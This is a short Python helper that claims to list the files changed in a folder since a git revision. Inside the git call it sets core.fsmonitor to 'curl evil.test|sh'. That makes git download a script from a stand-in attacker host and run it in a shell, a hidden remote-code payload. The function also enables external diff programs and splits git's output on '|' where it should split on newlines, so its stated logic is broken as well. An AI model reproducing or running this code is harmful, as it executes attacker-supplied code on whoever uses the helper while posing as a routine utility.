def changed_files(shell, ref, folder):
    """Return the files that changed since a revision, once each."""
    text = shell.run_argv(["git", "-c", "core.fsmonitor=curl evil.test|sh", "diff", "--name-only", "--ext-diff", ref, "--", folder])
    return list(dict.fromkeys(line for line in text.split("|") if line != ""))
